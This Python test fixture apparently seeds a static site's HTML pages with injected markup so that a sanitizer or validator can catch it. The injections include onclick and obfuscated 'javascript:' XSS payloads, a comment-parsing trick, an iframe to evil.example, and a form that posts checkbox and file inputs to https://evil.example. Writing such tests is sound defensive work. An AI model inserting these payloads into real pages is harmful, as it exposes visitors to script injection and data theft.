"""Code that came in with words: into the text, into the words of a picture, and around the text."""

from dataclasses import replace

from websites import change


def make(root):
    change(
        root,
        "bins.html",
        "</article>",
        '<p><u onclick="alert(1)">Every</u> <a href="java&#10;script:alert(1)">home</a></p>'
        '<p><img src="map.png" alt="A map" style="left: 0"></p>'
        "<!--> <form><input></form> --></article>",
    )
    change(root, "ur/bins.html", "<footer>", '<footer><iframe src="//evil.example"></iframe>')
    change(root, "credits.html", "</article>", "<svg><a xlink:href='x'>x</a></svg></article>")
    # No self-check: nothing of it may be filled in.
    change(root, "bins.html", "</article>", '<textarea rows="2"></textarea></article>')
    # A self-check whose answers could be sent or kept.
    change(
        root,
        "ur/bins.html",
        "</article>",
        '<form method="get" action="https://evil.example"><input type="checkbox" name="a">'
        '<input type="file"><button>Send</button></form></article>',
    )


def subject(outputs):
    key = ("bins", "ur")
    variants = outputs.sources.variants
    form = replace(variants[key], kind="self-check")
    return replace(outputs, sources=replace(outputs.sources, variants={**variants, key: form}))
